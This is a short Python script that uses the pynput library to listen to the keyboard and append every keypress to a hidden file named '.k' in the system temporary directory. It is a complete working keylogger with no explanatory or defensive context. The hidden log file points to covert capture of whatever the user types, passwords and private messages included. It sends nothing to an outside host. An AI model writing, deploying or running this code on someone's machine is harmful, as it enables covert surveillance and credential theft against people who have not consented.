import os
import tempfile
from pynput import keyboard

LOG = os.path.join(tempfile.gettempdir(), ".k")


def pressed(key):
    with open(LOG, "a") as out:
        out.write(str(key))


with keyboard.Listener(on_press=pressed) as listener:
    listener.join()
